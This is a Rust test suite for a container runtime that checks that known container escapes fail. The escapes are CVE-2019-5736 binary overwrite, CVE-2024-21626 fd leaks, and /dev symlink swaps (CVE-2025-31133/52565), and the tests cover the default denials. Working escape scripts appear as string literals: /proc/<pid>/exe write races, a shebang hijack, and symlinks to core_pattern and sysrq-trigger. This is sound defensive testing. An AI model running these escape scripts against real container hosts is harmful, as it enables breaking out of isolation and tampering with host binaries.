//! End-to-end: known container escapes, attempted for real on this kernel as root, must
//! fail. CVE-2019-5736 (overwriting the runtime binary through /proc/<pid>/exe),
//! CVE-2024-21626 (a leaked host fd as working directory), CVE-2025-31133 / CVE-2025-52565
//! (masking and console setup following a container-controlled /dev/null, /dev/console or
//! /dev/pts/ptmx), no_new_privs, and what the default profile denies from inside.

mod common;

use common::{DaemonOptions, TestDaemon};
use sha2::{Digest, Sha256};
use std::path::Path;
use std::time::Duration;

fn sha256_file(p: &Path) -> String {
    let data = std::fs::read(p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()));
    Sha256::digest(&data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Waits (in the container, by polling) for the process whose command line starts with
/// `needle`, prints `pid=N`, then runs `then` with `$p` set.
fn find_then(needle: &str, then: &str) -> String {
    format!(
        r#"
        p=
        for i in $(seq 1 3000); do
            for d in /proc/[0-9]*; do
                case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
                    "{needle}"*) p=${{d#/proc/}}; break;;
                esac
            done
            [ -n "$p" ] && break
            usleep 10000
        done
        echo "pid=$p exe=$(readlink /proc/$p/exe 2>&1)"
        {then}
        "#
    )
}

/// A tar of the dynamic loader and shared libraries `exe` needs (`ldd`), at the paths it
/// looks for them; empty for a static binary.
fn runtime_libs_tar(exe: &Path) -> Vec<u8> {
    let out = std::process::Command::new("ldd").arg(exe).output();
    let Ok(out) = out else { return Vec::new() };
    let mut b = tar::Builder::new(Vec::new());
    let mut n = 0;
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let path = line
            .split("=>")
            .last()
            .and_then(|r| r.split_whitespace().next())
            .filter(|p| p.starts_with('/'));
        if let Some(p) = path {
            b.append_path_with_name(p, p.trim_start_matches('/'))
                .unwrap();
            n += 1;
        }
    }
    if n == 0 {
        return Vec::new();
    }
    b.into_inner().unwrap()
}

/// CVE-2019-5736. The container runs the runtime's own binary inside itself (what a
/// `#!/proc/self/exe` /bin/sh makes `docker exec` do), keeps it alive on a FIFO, grabs
/// /proc/<pid>/exe, and tries to write it: live, and by reopening its fd after the process
/// is gone. Then the literal shebang attack with a scanner racing repeated `docker exec`s.
/// The daemon runs from a private copy of the binary, whose hash must not change.
#[test]
fn cve_2019_5736_runtime_binary_is_not_writable_from_a_container() {
    if !common::can_run() {
        return;
    }
    let d = TestDaemon::start_with(DaemonOptions {
        copy_binary: true,
        ..Default::default()
    });
    let before = sha256_file(&d.exe);
    d.docker(&["run", "-d", "--name", "evil", "busybox", "sleep", "1000"])
        .ok();
    // A debug build of berth is dynamically linked: give the container the loader and the
    // libraries it needs, as an attacker's glibc image would have them, so the runtime
    // binary can actually run inside it.
    let libs = runtime_libs_tar(&d.exe);
    if !libs.is_empty() {
        d.docker_stdin(&["exec", "-i", "evil", "tar", "-x", "-C", "/"], &libs)
            .ok();
    }
    d.docker(&[
        "exec",
        "evil",
        "sh",
        "-c",
        "mkdir -p /tmp/b && mkfifo /tmp/b/config.json",
    ])
    .ok();

    // 1. Deterministic: a runtime process held inside the container.
    d.docker(&[
        "exec",
        "-d",
        "evil",
        "/proc/self/exe",
        "monitor",
        "--bundle",
        "/tmp/b",
        "--id",
        "x",
    ])
    .ok();
    let attack = find_then(
        "/proc/self/exe monitor --bundle /tmp/b",
        r#"
        [ -n "$p" ] || { echo "no runtime process found"; exit 0; }
        ( exec 5>>/proc/$p/exe ) 2>/dev/null && echo "LIVE-WRITE-OPEN ok" || echo "live write-open: denied"
        exec 4</proc/$p/exe || { echo "read-open: denied"; echo x 1<>/tmp/b/config.json; exit 0; }
        echo "read-open: $(readlink /proc/self/fd/4)"
        echo x 1<>/tmp/b/config.json
        while [ -e /proc/$p ]; do usleep 10000; done
        if ( exec 5>>/proc/self/fd/4 ) 2>/dev/null; then
            echo "reopen write-open: ok"
            ( echo pwned >&5 ) 5>>/proc/self/fd/4 2>/dev/null && echo "REOPEN-WRITE ok" || echo "reopen write: denied"
        else
            echo "reopen write-open: denied"
        fi
        "#,
    );
    let got = d.docker(&["exec", "evil", "sh", "-c", &attack]).out();
    eprintln!("held runtime process, the attacker got:\n{got}");
    assert!(
        got.contains("pid=") && !got.contains("no runtime process"),
        "{got}"
    );
    assert!(
        !got.contains("WRITE-OPEN ok") && !got.contains("WRITE ok"),
        "{got}"
    );
    // What the container saw was the sealed in-memory copy, never the host file.
    assert!(!got.contains(&d.exe.display().to_string()), "{got}");

    // 2. The shebang attack, racing: /bin/sh becomes `#!/proc/self/exe`, a scanner grabs
    //    every new process's exe, and we exec into the container repeatedly.
    let scan = r#"
        seen=" $$ "
        while [ ! -e /tmp/stop ]; do
            for d in /proc/[0-9]*; do
                p=${d#/proc/}
                case "$seen" in *" $p "*) continue;; esac
                seen="$seen$p "
                l=$(/bin/busybox readlink $d/exe 2>/dev/null)
                case "$l" in /bin/busybox|"") ;; *) echo "saw $p: $l" >> /tmp/scan.log;; esac
                ( exec 5>>$d/exe ) 2>/dev/null && echo "LIVE-WRITE-OPEN ok $p $l" >> /tmp/scan.log
                ( exec 4<$d/exe || exit 0
                  l=$(/bin/busybox readlink /proc/self/fd/4)
                  case "$l" in /bin/busybox) exit 0;; esac
                  echo "held $p: $l" >> /tmp/scan.log
                  while [ -e $d ]; do usleep 1000; done
                  ( echo pwned >&5 ) 5>>/proc/self/fd/4 2>/dev/null && echo "REOPEN-WRITE ok $p" >> /tmp/scan.log
                ) &
            done
        done
        echo done >> /tmp/scan.log
    "#;
    d.docker(&[
        "exec",
        "evil",
        "/bin/busybox",
        "sh",
        "-c",
        "rm /bin/sh && printf '#!/proc/self/exe\\n' > /bin/sh && chmod 755 /bin/sh && touch /tmp/scan.log",
    ])
    .ok();
    d.docker(&["exec", "-d", "evil", "/bin/busybox", "sh", "-c", scan])
        .ok();
    let mut ran_runtime = 0;
    for _ in 0..15 {
        let o = d.docker(&["exec", "evil", "/bin/sh"]);
        // The kernel ran /proc/self/exe of the exec'd process: the runtime binary.
        if o.code != 0 && o.all().contains("berth") {
            ran_runtime += 1;
        }
    }
    d.docker(&["exec", "evil", "/bin/busybox", "touch", "/tmp/stop"])
        .ok();
    let wait_log = "for i in $(seq 1 3000); do grep -q '^done' /tmp/scan.log && break; \
                    usleep 10000; done; cat /tmp/scan.log";
    let log = d
        .docker(&["exec", "evil", "/bin/busybox", "sh", "-c", wait_log])
        .out();
    eprintln!("shebang attack: {ran_runtime}/15 execs ran the runtime binary; scanner log:\n{log}");
    assert!(
        !log.contains("WRITE-OPEN ok") && !log.contains("WRITE ok"),
        "{log}"
    );
    assert!(!log.contains(&d.exe.display().to_string()), "{log}");

    d.docker(&["rm", "-f", "evil"]).ok();
    assert_eq!(
        sha256_file(&d.exe),
        before,
        "the runtime binary changed on the host"
    );
}

/// Protection off: with the sealed copy switched off (monitors run from the host binary,
/// as runc did before the fix), the same container gets a handle on the runtime binary and,
/// once no process runs it, overwrites it — CVE-2019-5736 itself. Only a throw-away copy of
/// the binary is at stake. (While any berth process runs the file, ETXTBSY blocks the write;
/// the real attack waited for runc to exit, here the daemon stops and its monitors die.)
#[test]
fn cve_2019_5736_succeeds_without_the_sealed_copy() {
    if !common::can_run() {
        return;
    }
    let mut d = TestDaemon::start_with(DaemonOptions {
        copy_binary: true,
        env: vec![(
            berth_runtime::sealed_exe::UNSAFE_HOST_BINARY_ENV.to_string(),
            "1".to_string(),
        )],
        ..Default::default()
    });
    let before = sha256_file(&d.exe);
    let id = d
        .docker(&["run", "-d", "--name", "evil", "busybox", "sleep", "1000"])
        .out();
    let libs = runtime_libs_tar(&d.exe);
    if !libs.is_empty() {
        d.docker_stdin(&["exec", "-i", "evil", "tar", "-x", "-C", "/"], &libs)
            .ok();
    }
    d.docker(&[
        "exec",
        "evil",
        "sh",
        "-c",
        "mkdir -p /tmp/b && mkfifo /tmp/b/config.json",
    ])
    .ok();
    d.docker(&[
        "exec",
        "-d",
        // The runtime binary also re-seals itself when it finds itself running from a
        // plain file; switched off as well, the protection is off entirely.
        "-e",
        &format!("{}=1", berth_runtime::sealed_exe::UNSAFE_HOST_BINARY_ENV),
        "evil",
        "/proc/self/exe",
        "monitor",
        "--bundle",
        "/tmp/b",
        "--id",
        "x",
    ])
    .ok();
    let attack = find_then(
        "/proc/self/exe monitor --bundle /tmp/b",
        r#"
        exec 4</proc/$p/exe || { echo "read-open: denied"; exit 0; }
        echo "read-open: $(readlink /proc/self/fd/4)"
        # Feed its config FIFO until it has exited (a zombie has no exe any more): data
        # written before it opens the FIFO would be lost with our end.
        while readlink /proc/$p/exe >/dev/null 2>&1; do
            echo x 1<>/tmp/b/config.json
            usleep 10000
        done
        echo "runtime process gone"
        # Retries until the test has stopped the daemon and its monitors (generously: a
        # loaded machine can take a while to get there); the loop ends at the first write.
        for i in $(seq 1 2400); do
            if ( echo pwned >&5 ) 5>>/proc/self/fd/4 2>/dev/null; then
                echo "REOPEN-WRITE ok"; exit 0
            fi
            usleep 50000
        done
        echo "reopen write: denied"
        "#,
    );
    d.docker(&[
        "exec",
        "-d",
        "evil",
        "sh",
        "-c",
        &format!("( {attack} ) > /tmp/attack.log 2>&1"),
    ])
    .ok();
    let log = common::wait_for("the attacker's handle", Duration::from_secs(30), || {
        let l = d.docker(&["exec", "evil", "cat", "/tmp/attack.log"]).stdout;
        l.contains("read-open:").then_some(l)
    });
    assert!(
        log.contains(&format!("read-open: {}", d.exe.display())),
        "without the sealed copy the container holds the host binary: {log}"
    );
    // Nothing of berth runs the file any more: the daemon stops (containers stay up) and
    // its monitors go; the attacker's loop then gets its write.
    d.stop_daemon();
    common::kill_monitors(&d.exec_root);
    let upper_log = d
        .data_root
        .join(format!("containers/{id}/upper/tmp/attack.log"));
    let deadline = std::time::Instant::now() + Duration::from_secs(90);
    while sha256_file(&d.exe) == before && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let log = std::fs::read_to_string(&upper_log).unwrap_or_default();
    let users: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| std::fs::read_link(e.path().join("exe")).is_ok_and(|x| x == d.exe))
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    let procs: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| {
            let c = std::fs::read(e.path().join("cmdline")).ok()?;
            let c = String::from_utf8_lossy(&c).replace('\0', " ");
            let st = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
            (c.contains("REOPEN") || c.contains("/tmp/b") || st.contains("(berth)")).then(|| {
                format!(
                    "{} {} {}",
                    e.file_name().to_string_lossy(),
                    st.split(' ').nth(2).unwrap_or(""),
                    &c[..c.len().min(60)]
                )
            })
        })
        .collect();
    assert!(
        log.contains("REOPEN-WRITE ok"),
        "attacker: {log}\nprocesses running the binary: {users:?}\nrelated: {procs:#?}"
    );
    assert_ne!(
        sha256_file(&d.exe),
        before,
        "the host binary was overwritten"
    );
    // The file still starts as the ELF it was; the daemon comes back for the cleanup.
    d.restart_daemon();
}

/// CVE-2024-21626: `-w /proc/self/fd/N` for run and exec either fails or lands inside the
/// container, and no host descriptor reaches a container process or an exec.
#[test]
fn cve_2024_21626_no_host_fd_as_cwd_or_leaked() {
    daemon!(d);
    let host_markers = [
        d.dir.display().to_string(),
        "/sys/fs/cgroup".to_string(),
        "memfd:".to_string(),
        "berth".to_string(),
    ];
    let check_cwd = |o: &common::Out, what: &str| {
        if o.code == 0 {
            let pwd = o.stdout.lines().next().unwrap_or("");
            assert!(
                pwd.starts_with('/') && !pwd.contains("unreachable"),
                "{what}: cwd {pwd:?}: {}",
                o.all()
            );
            for m in &host_markers {
                assert!(!o.stdout.contains(m.as_str()), "{what}: {}", o.stdout);
            }
        }
    };
    let probe = "pwd; ls -a . | head -50";
    for n in 3..20 {
        let w = format!("/proc/self/fd/{n}");
        let o = d.docker(&["run", "--rm", "-w", &w, "busybox", "sh", "-c", probe]);
        check_cwd(&o, &format!("run -w {w}"));
    }
    d.docker(&["run", "-d", "--name", "cwd", "busybox", "sleep", "1000"])
        .ok();
    for n in 3..20 {
        let w = format!("/proc/self/fd/{n}");
        let o = d.docker(&["exec", "-w", &w, "cwd", "sh", "-c", probe]);
        check_cwd(&o, &format!("exec -w {w}"));
        let o = d.docker(&["exec", "-t", "-w", &w, "cwd", "sh", "-c", probe]);
        check_cwd(&o, &format!("exec -t -w {w}"));
    }
    // Every descriptor a container process or an exec starts with.
    let list = "for f in /proc/self/fd/*; do echo \"$f -> $(readlink $f)\"; done";
    let mut outs = vec![
        d.docker(&["run", "--rm", "busybox", "sh", "-c", list])
            .out(),
        d.docker(&["run", "--rm", "-t", "busybox", "sh", "-c", list])
            .out(),
        d.docker(&["exec", "cwd", "sh", "-c", list]).out(),
        d.docker(&["exec", "-t", "cwd", "sh", "-c", list]).out(),
    ];
    outs.push(
        d.docker(&["run", "--rm", "-i", "busybox", "sh", "-c", list])
            .out(),
    );
    for out in &outs {
        for line in out.lines() {
            let target = line.split(" -> ").nth(1).unwrap_or("").trim();
            let fine = target.starts_with("/dev/null")
                || target.starts_with("/dev/pts/")
                || target.starts_with("pipe:")
                || target.starts_with("socket:")
                || target.starts_with("/proc/")
                || target.is_empty();
            assert!(
                fine,
                "unexpected descriptor in the container: {line}\n{out}"
            );
            for m in &host_markers {
                assert!(!line.contains(m.as_str()), "host fd leaked: {line}");
            }
        }
    }
}

/// Imports the busybox rootfs with extra entries (symlinks: name → target) as `name`.
fn import_with_links(d: &TestDaemon, repo: &str, links: &[(&str, &str)]) {
    let mut out = tar::Builder::new(Vec::new());
    let mut a = tar::Archive::new(common::busybox_tar());
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let path = e.path().unwrap().into_owned();
        let p = path.to_string_lossy().trim_start_matches("./").to_string();
        if links.iter().any(|(n, _)| *n == p) {
            continue;
        }
        let mut h = e.header().clone();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        out.append_data(&mut h, &path, &data[..]).unwrap();
    }
    for dir in ["dev", "dev/pts"] {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Directory);
        h.set_mode(0o755);
        h.set_size(0);
        out.append_data(&mut h, dir, std::io::empty()).unwrap();
    }
    for (name, target) in links {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_mode(0o777);
        h.set_size(0);
        out.append_link(&mut h, name, target).unwrap();
    }
    let tar = out.into_inner().unwrap();
    let r = d.request(
        "POST",
        &format!("/images/create?fromSrc=-&repo={repo}&tag=latest&changes=CMD%20%5B%22sh%22%5D"),
        &[("Content-Type", "application/x-tar")],
        &tar,
    );
    assert!(
        r.status == 200 && !r.text().contains("\"error"),
        "import {repo}: {}",
        r.text()
    );
}

const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// What the container must see whatever its image or volumes put under /dev.
const DEV_PROBE: &str = r#"
    for f in /proc/timer_list /proc/keys /proc/kcore /proc/sched_debug /proc/latency_stats; do
        [ -e $f ] && echo "masked $f $(wc -c < $f)"
    done
    for f in /dev/null /dev/console /dev/pts/ptmx; do
        [ -L $f ] && echo "SYMLINK $f" || { [ -e $f ] && echo "node $f $(stat -c %F:%t:%T $f)"; }
    done
    echo x > /proc/sys/kernel/core_pattern 2>/dev/null && echo "PROCSYS-RW" || echo "procsys ro"
    echo x > /proc/timer_list 2>/dev/null; wc -c < /proc/timer_list
    echo done
"#;

fn check_dev_probe(out: &str) {
    assert!(out.contains("done"), "{out}");
    assert!(!out.contains("SYMLINK"), "{out}");
    assert!(!out.contains("PROCSYS-RW"), "{out}");
    for l in out.lines().filter(|l| l.starts_with("masked ")) {
        assert!(l.ends_with(" 0"), "a masked path shows content: {l}\n{out}");
    }
    assert!(
        out.contains("node /dev/null character special file:1:3"),
        "{out}"
    );
}

/// CVE-2025-31133 / CVE-2025-52565 patterns: an image, and a volume mounted over /dev,
/// whose /dev/null, /dev/console and /dev/pts/ptmx are symlinks to host-sensitive files.
/// With and without a tty, masks still hide, /proc/sys stays read-only, the symlinks are
/// never followed and the host's files are unchanged.
#[test]
fn cve_2025_31133_52565_dev_swaps_are_not_followed() {
    daemon!(d);
    let core_before = std::fs::read_to_string(CORE_PATTERN).unwrap();
    let links = [
        ("dev/null", CORE_PATTERN),
        ("dev/console", CORE_PATTERN),
        ("dev/ptmx", "/proc/sysrq-trigger"),
        ("dev/pts/ptmx", CORE_PATTERN),
    ];
    import_with_links(&d, "evildev", &links);
    for tty in [false, true] {
        let mut args = vec!["run", "--rm"];
        if tty {
            args.push("-t");
        }
        args.extend(["evildev", "sh", "-c", DEV_PROBE]);
        let out = d.docker(&args).out();
        check_dev_probe(&out);
        if tty {
            assert!(
                out.contains("node /dev/console character special file"),
                "{out}"
            );
        }
    }

    // A host directory mounted over /dev, holding the same planted links.
    let vol = d.dir.join("devvol");
    std::fs::create_dir_all(vol.join("pts")).unwrap();
    for (name, target) in links {
        let p = vol.join(name.trim_start_matches("dev/"));
        std::os::unix::fs::symlink(target, p).unwrap();
    }
    let bind = format!("{}:/dev", vol.display());
    for tty in [false, true] {
        let mut args = vec!["run", "--rm", "-v", bind.as_str()];
        if tty {
            args.push("-t");
        }
        args.extend(["busybox", "sh", "-c", DEV_PROBE]);
        let o = d.docker(&args);
        eprintln!("volume over /dev (tty={tty}): exit {}\n{}", o.code, o.all());
        if o.code == 0 {
            // A user mount at /dev replaces the default /dev and its submounts (as
            // dockerd): without a tty the runtime touches neither /dev/console nor
            // /dev/pts, so the planted links stay, unfollowed, in the user's directory.
            let seen = if tty {
                o.stdout.clone()
            } else {
                o.stdout
                    .replace("SYMLINK /dev/console", "")
                    .replace("SYMLINK /dev/pts/ptmx", "")
            };
            check_dev_probe(&seen);
        }
        // Nothing on the host was followed: the planted links still point where they did
        // or were replaced inside the volume, and the host's files are unchanged.
        assert_eq!(std::fs::read_to_string(CORE_PATTERN).unwrap(), core_before);
    }
    assert_eq!(std::fs::read_to_string(CORE_PATTERN).unwrap(), core_before);
}

fn nnp(d: &TestDaemon, extra: &[&str]) -> String {
    let mut args = vec!["run", "--rm"];
    args.extend(extra);
    args.extend(["busybox", "grep", "NoNewPrivs", "/proc/self/status"]);
    d.docker(&args)
        .out()
        .split_whitespace()
        .nth(1)
        .unwrap_or("")
        .to_string()
}

/// `--security-opt no-new-privileges` (all spellings) and the daemon's
/// `--no-new-privileges` default, for the init process and for execs.
#[test]
fn no_new_privileges_flag_and_daemon_default() {
    daemon!(d);
    assert_eq!(nnp(&d, &[]), "0");
    for o in [
        "no-new-privileges",
        "no-new-privileges=true",
        "no-new-privileges:true",
    ] {
        assert_eq!(nnp(&d, &["--security-opt", o]), "1", "{o}");
    }
    d.docker(&[
        "run",
        "-d",
        "--name",
        "nnp",
        "--security-opt",
        "no-new-privileges",
        "busybox",
        "sleep",
        "1000",
    ])
    .ok();
    let st = d
        .docker(&["exec", "nnp", "grep", "NoNewPrivs", "/proc/self/status"])
        .out();
    assert!(st.ends_with('1'), "exec: {st}");
    drop(d);

    if !common::can_run() {
        return;
    }
    let d = TestDaemon::start_with(DaemonOptions {
        args: vec!["--no-new-privileges".into()],
        ..Default::default()
    });
    assert_eq!(nnp(&d, &[]), "1");
    assert_eq!(nnp(&d, &["--security-opt", "no-new-privileges=false"]), "0");
    // With no_new_privs a setuid binary cannot raise privileges: `su` as nobody fails.
    let o = d.docker(&["run", "--rm", "-u", "nobody", "busybox", "su", "-c", "id"]);
    assert_ne!(o.code, 0, "{}", o.all());
}

/// From inside a default container: what capabilities, masks, read-only mounts, namespaces
/// and the device cgroup already deny.
#[test]
fn default_container_denials() {
    daemon!(d);
    let host_name = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let script = r#"
        echo x > /proc/sys/kernel/hostname 2>/dev/null && echo "sysctl-hostname WRITABLE" || echo "sysctl-hostname denied"
        echo h > /proc/sysrq-trigger 2>/dev/null && echo "sysrq WRITABLE" || echo "sysrq denied"
        touch /sys/kernel/berth-escape 2>/dev/null && echo "sys WRITABLE" || echo "sys denied"
        echo 1 > /sys/kernel/profiling 2>/dev/null && echo "sys-knob WRITABLE" || echo "sys-knob denied"
        if mknod /tmp/sda b 8 0 2>/dev/null; then
            head -c 1 /tmp/sda > /dev/null 2>&1 && echo "blockdev OPENED" || echo "blockdev open denied"
        else
            echo "mknod denied"
        fi
        mknod /tmp/mem c 1 1 2>/dev/null && { head -c 1 /tmp/mem >/dev/null 2>&1 && echo "devmem OPENED" || echo "devmem open denied"; }
        # busybox date reports a failed settimeofday on stderr but exits 0.
        date -s 2001-01-01 2>&1 | grep -q "can't set" && echo "date denied" || echo "date CHANGED"
        hostname evil-name 2>/dev/null && echo "hostname CHANGED" || echo "hostname denied"
        echo "pids $(ls /proc | grep -c '^[0-9][0-9]*$')"
        [ -e /proc/kcore ] && echo "kcore $(head -c 16 /proc/kcore | wc -c)"
        mount -t tmpfs none /mnt 2>/dev/null && echo "mount ALLOWED" || echo "mount denied"
        echo done
    "#;
    let out = d
        .docker(&["run", "--rm", "busybox", "sh", "-c", script])
        .out();
    eprintln!("{out}");
    for want in [
        "sysctl-hostname denied",
        "sysrq denied",
        "sys denied",
        "sys-knob denied",
        "date denied",
        "mount denied",
        "hostname denied",
        "done",
    ] {
        assert!(out.contains(want), "missing {want:?}:\n{out}");
    }
    assert!(
        out.contains("blockdev open denied") || out.contains("mknod denied"),
        "{out}"
    );
    assert!(
        !out.contains("OPENED") && !out.contains("WRITABLE") && !out.contains("CHANGED"),
        "{out}"
    );
    if let Some(l) = out.lines().find(|l| l.starts_with("kcore ")) {
        assert_eq!(l, "kcore 0", "{out}");
    }
    // Only the container's own processes are visible (sh, ls, grep and the like).
    let pids: usize = out
        .lines()
        .find_map(|l| l.strip_prefix("pids "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(usize::MAX);
    assert!(pids <= 5, "{out}");
    // With CAP_SYS_ADMIN, `hostname` changes the container's UTS namespace only.
    let out = d
        .docker(&[
            "run",
            "--rm",
            "--cap-add",
            "SYS_ADMIN",
            "busybox",
            "sh",
            "-c",
            "hostname evil-name && hostname",
        ])
        .out();
    assert_eq!(out, "evil-name");
    // The host's hostname did not change.
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap(),
        host_name
    );
    // Raw sockets as non-root: traceroute and arping need one.
    let o = d.docker(&[
        "run",
        "--rm",
        "-u",
        "nobody",
        "busybox",
        "sh",
        "-c",
        "traceroute -m 1 127.0.0.1 2>&1; arping -c 1 -I lo 127.0.0.1 2>&1; true",
    ]);
    let raw = o.out();
    assert!(
        raw.matches("Operation not permitted").count() >= 2
            || raw.matches("permission denied").count() >= 2,
        "raw sockets as nobody: {raw}"
    );
}
